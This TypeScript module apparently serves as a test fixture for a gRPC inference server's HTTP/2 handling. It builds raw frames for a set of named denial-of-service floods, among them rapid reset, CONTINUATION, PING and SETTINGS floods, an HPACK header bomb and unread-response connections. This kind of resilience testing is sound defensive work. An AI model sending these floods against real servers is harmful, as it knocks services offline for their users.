/** What a hostile peer sends in frames of HTTP/2 (RFC 9113). */

export const Type = {
  data: 0,
  headers: 1,
  priority: 2,
  reset: 3,
  settings: 4,
  ping: 6,
  window: 8,
  continuation: 9,
} as const;
const END_STREAM = 1;
const END_HEADERS = 4;

export function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(stream, 5);
  return Buffer.concat([header, payload]);
}
const u32 = (...values: number[]): Buffer =>
  Buffer.concat(
    values.map((value) => {
      const bytes = Buffer.alloc(4);
      bytes.writeUInt32BE(value);
      return bytes;
    }),
  );
/** A header that enters no table. */
const literal = (name: string, value: string): Buffer =>
  Buffer.concat([Buffer.from([0, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)]);
const request = (path: string): Buffer =>
  Buffer.concat(
    Object.entries({
      ':method': 'POST',
      ':scheme': 'http',
      ':path': path,
      ':authority': 'x',
      'content-type': 'application/grpc',
      te: 'trailers',
    }).map(([name, value]) => literal(name, value)),
  );
const LIVE = request('/inference.GRPCInferenceService/ServerLive');
const INFER = request('/inference.GRPCInferenceService/ModelInfer');
const EMPTY_MESSAGE = Buffer.alloc(5);
const settings = (id: number, value: number): Buffer => Buffer.concat([Buffer.from([0, id]), u32(value)]);

/** Frames that are sent again and again; `first` once. */
export interface Flood {
  first?: Buffer;
  /** What the settings of the connection are. */
  settings?: Buffer;
  next: (round: number) => Buffer;
  /** Whether nothing that the server says is read. */
  isDeaf?: boolean;
  connections?: number;
  /** Rounds on a connection, which then stays. */
  rounds?: number;
}

const times = (count: number, make: (index: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, index) => make(index)));
const odd = (round: number, of: number, index: number): number => 2 * (round * of + index) + 1;
/** Enters the table with four thousand bytes, and is named by one byte then. */
const LARGE_ENTRY = Buffer.concat([
  Buffer.from([0x40, 1, 0x78, 0x7f, 0x80 | ((3_900 - 127) & 0x7f), (3_900 - 127) >>> 7]),
  Buffer.alloc(3_900, 'y'),
]);

export const FLOODS: Record<string, Flood> = {
  continuation: {
    first: frame(Type.headers, END_STREAM, 1, LIVE),
    next: () => times(64, (index) => frame(Type.continuation, 0, 1, literal(`x-${index}`, 'y'))),
  },
  ping: { next: () => times(4096, () => frame(Type.ping, 0, 0, Buffer.alloc(8))) },
  'ping of a deaf peer': { isDeaf: true, next: () => times(4096, () => frame(Type.ping, 0, 0, Buffer.alloc(8))) },
  settings: { next: () => times(4096, () => frame(Type.settings, 0, 0, settings(3, 100))) },
  'settings of many entries': {
    next: () =>
      times(512, () =>
        frame(
          Type.settings,
          0,
          0,
          times(32, (index) => settings(3, index)),
        ),
      ),
  },
  'rapid reset': {
    next: (round) =>
      times(256, (index) => {
        const stream = odd(round, 256, index);
        return Buffer.concat([
          frame(Type.headers, END_STREAM | END_HEADERS, stream, LIVE),
          frame(Type.reset, 0, stream, u32(8)),
        ]);
      }),
  },
  'header bomb': {
    next: (round) =>
      times(16, (index) =>
        frame(
          Type.headers,
          END_STREAM | END_HEADERS,
          odd(round, 16, index),
          Buffer.concat([LIVE, LARGE_ENTRY, Buffer.alloc(12_000, 0xbe)]),
        ),
      ),
  },
  'window updates': { next: () => times(4096, () => frame(Type.window, 0, 0, u32(1))) },
  priorities: {
    next: (round) => times(4096, (index) => frame(Type.priority, 0, odd(round, 1, index % 2), Buffer.alloc(5, 1))),
  },
  'unknown frames': { next: () => times(4096, () => frame(0xee, 0, 0)) },
  'empty data': {
    first: frame(Type.headers, END_HEADERS, 1, INFER),
    next: () => times(4096, () => frame(Type.data, 0, 1)),
  },
  padding: {
    first: frame(Type.headers, END_HEADERS, 1, INFER),
    next: () => times(1024, () => frame(Type.data, 8, 1, Buffer.concat([Buffer.from([254]), Buffer.alloc(254)]))),
  },
  'calls that say nothing': {
    connections: 16,
    rounds: 1,
    next: () => times(256, (index) => frame(Type.headers, END_HEADERS, 2 * index + 1, INFER)),
  },
  'answers that nobody reads': {
    settings: settings(4, 0),
    connections: 8,
    rounds: 1,
    next: () =>
      times(256, (index) =>
        Buffer.concat([
          frame(Type.headers, END_HEADERS, 2 * index + 1, INFER),
          frame(Type.data, END_STREAM, 2 * index + 1, EMPTY_MESSAGE),
        ]),
      ),
  },
};
